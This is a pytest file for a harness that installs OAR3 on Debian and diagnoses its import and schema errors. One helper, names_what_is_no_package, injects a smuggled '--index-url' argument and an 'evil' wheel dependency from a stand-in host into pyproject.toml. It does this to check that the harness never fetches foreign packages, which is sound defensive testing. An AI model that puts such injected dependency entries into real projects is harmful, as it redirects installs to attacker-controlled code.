"""What OAR3 needs beyond its documentation, found by trying."""

from __future__ import annotations

import shutil
from collections.abc import Callable
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from harness.oar2.server import Oar2Server
from harness.oar3 import install
from harness.oar3.deb import read_debs
from harness.oar3.diagnose import diagnose
from harness.oar3.prepare import Prepared, adapt, prepare
from harness.oar3.source import Oar3Source, read_tree
from harness.oar3.trial import try_database, try_import
from harness.run.columns import Column
from harness.run.environment import Provisioner
from tests.servers import NATIVE

if TYPE_CHECKING:
    from tests.oar3.conftest import MakeDeb

pytestmark = [pytest.mark.engine, pytest.mark.oar3]


def test_3_0_2_on_trixie_needs_a_column(prepared: Prepared, oar3: Oar3Source) -> None:
    if oar3.name != "3.0.2" or oar3.origin != "tree":
        pytest.skip(f"the copy of OAR3 is {oar3.name} ({oar3.origin}), not the tree of 3.0.2")
    assert [adaptation.id for adaptation in prepared.adaptations] == ["column:jobs.last_karma"]
    (karma,) = prepared.adaptations
    assert karma.what == "ALTER TABLE jobs ADD COLUMN IF NOT EXISTS last_karma FLOAT"
    assert "column jobs.last_karma does not exist" in karma.because
    assert prepared.statements == (karma.what,)
    assert prepared.trouble == ""


def test_it_is_prepared_once_and_found_again(provisioner: Provisioner, prepared: Prepared, oar3: Oar3Source) -> None:
    told: list[str] = []
    assert prepare(provisioner.engine, provisioner.image.tag, oar3, {}, told.append) == prepared
    assert told == [], "nothing was installed again"


def test_without_its_packages_it_does_not_even_start(provisioner: Provisioner, oar3: Oar3Source) -> None:
    if oar3.name != "3.0.2" or oar3.origin != "tree":
        pytest.skip(f"the copy of OAR3 is {oar3.name} ({oar3.origin}), not the tree of 3.0.2")
    with provisioner.lane("bare", Column("any", NATIVE, oar3), almighty=False) as lane:
        server = Oar2Server(lane)
        assert try_import(server) == ""
        assert "UndefinedColumn" in try_database(server), "a fresh database lacks what the statements add"
        # Recommended by what the documentation lists, so it is not there if recommended packages are not wanted.
        lane.server.run("dpkg", "--force-all", "--remove", "python3-rich")
        need = diagnose(try_import(server))
        assert need
        assert (need.kind, need.name) == ("module", "rich")
        assert need.error == "ModuleNotFoundError: No module named 'rich'"


def renames(tree: Path) -> str:
    """A function that another module imports: it called for a package named oar, and a foreign one was fetched."""
    file = tree / "oar" / "kao" / "scheduling.py"
    file.write_text(file.read_text().replace("def schedule_id_jobs_ct(", "def schedule_all_jobs("))
    return "ImportError: cannot import name 'schedule_id_jobs_ct' from 'oar.kao.scheduling'"


def imports(tree: Path) -> str:
    file = tree / "oar" / "kao" / "platform.py"
    file.write_text("import nobody_names_this\n" + file.read_text())
    return "ModuleNotFoundError: No module named 'nobody_names_this'"


def cannot_be_read(tree: Path) -> str:
    file = tree / "oar" / "kao" / "slot.py"
    file.write_text(file.read_text() + "\ndef broken(:\n")
    return "SyntaxError: invalid syntax"


def mistypes(tree: Path) -> str:
    """A name of a library that is what OAR3 asks for: replacing it would not help, and hid the error."""
    file = tree / "oar" / "lib" / "globals.py"
    file.write_text("from sqlalchemy import NoSuchName\n" + file.read_text())
    return "ImportError: cannot import name 'NoSuchName' from 'sqlalchemy'"


def names_what_is_no_package(tree: Path) -> str:
    pyproject = tree / "pyproject.toml"
    hostile = '"--index-url=http://192.0.2.1/" = "*"\nevil = {url = "http://192.0.2.1/evil-1.0-py3-none-any.whl"}\n'
    table = "[tool.poetry.dependencies]\n"
    assert table in pyproject.read_text()
    pyproject.write_text(pyproject.read_text().replace(table, table + hostile))
    file = tree / "oar" / "kao" / "platform.py"
    file.write_text("import evil\n" + file.read_text())
    return "ModuleNotFoundError: No module named 'evil'"


@pytest.mark.parametrize("change", [renames, imports, cannot_be_read, mistypes, names_what_is_no_package])
def test_an_error_of_a_tree_s_own_calls_for_nothing(
    provisioner: Provisioner, oar3: Oar3Source, tmp_path: Path, change: Callable[[Path], str]
) -> None:
    if oar3.name != "3.0.2" or oar3.origin != "tree":
        pytest.skip(f"the copy of OAR3 is {oar3.name} ({oar3.origin}), not the tree of 3.0.2")
    tree = tmp_path / "tree"
    shutil.copytree(oar3.path, tree)
    error = change(tree)
    told: list[str] = []
    with provisioner.lane("own-error", Column("any", NATIVE, oar3), almighty=False) as lane:
        source = read_tree(tree)
        install.install_oar3(lane, source)
        prepared = adapt(Oar2Server(lane), source, "any", told.append)
    assert prepared.adaptations == ()
    assert prepared.trouble.splitlines()[-1].startswith(error)
    assert change is cannot_be_read or any(line.startswith("not adapted: ") for line in told)


def test_a_package_whose_dependency_debian_does_not_have(
    provisioner: Provisioner, tmp_path: Path, make_deb: MakeDeb
) -> None:
    """It was called a mirror that cannot be reached, and ended the run."""
    fields = "Depends: python3-tabulate, python3-nowhere (>= 1), python3:any\n"
    source = read_debs(make_deb(tmp_path / "debs", fields=fields))
    with provisioner.lane("unmet") as lane:
        install.apt(lane, "update")
        with pytest.raises(install.Unmet, match="python3-nowhere") as unmet:
            install.install_oar3(lane, source)
        (done,) = install.install_in_spite(lane, source, unmet.value)
        assert done.id == "package:python3-oar"
        assert done.what.endswith("by dpkg --force-depends, without python3-nowhere (>= 1)")
        assert "python3-nowhere" in done.because
        installed = lane.server.run(
            "dpkg-query", "-W", "-f", "${db:Status-Abbrev}", "python3-oar", "python3-tabulate"
        )
        assert installed.stdout.split() == ["ii", "ii"]
        told: list[str] = []
        prepared = adapt(Oar2Server(lane), source, "any", told.append, (done,))
    assert prepared.adaptations == (done,), "nothing called oar was fetched in place of the package's own"
    assert prepared.trouble.splitlines()[-1] == "ModuleNotFoundError: No module named 'oar'"
